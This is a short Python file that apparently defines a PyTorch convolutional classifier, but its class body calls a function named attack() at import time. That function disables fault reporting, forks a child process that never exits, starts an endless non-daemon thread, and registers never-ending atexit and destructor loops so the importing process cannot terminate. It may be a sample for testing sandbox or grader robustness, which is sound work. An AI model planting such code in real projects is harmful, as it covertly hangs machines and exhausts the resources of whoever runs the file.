"""What does not end is left to the end: a thread, a handler, a destructor, a child."""

import atexit
import faulthandler
import os
import threading
import time

import torch.nn as nn
import torch.nn.functional as F


def attack():
    faulthandler.disable()

    def forever():
        while True:
            time.sleep(1)

    class Kept:
        def __del__(self):
            forever()

    global kept
    kept = Kept()
    atexit.register(forever)
    threading.Thread(target=forever).start()
    if os.fork() == 0:
        forever()


class Net(nn.Module):
    attack()

    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 16, 3)
        self.norm = nn.BatchNorm2d(16)
        self.drop = nn.Dropout(0.1)
        self.last = nn.Conv2d(16, 10, 3)
        self.pool = nn.AdaptiveAvgPool2d(1)

    def body(self, x):
        return self.drop(self.norm(F.relu(self.conv(x))))

    def head(self, x):
        return self.pool(self.last(x)).flatten(1)

    def forward(self, x):
        return self.head(self.body(x))
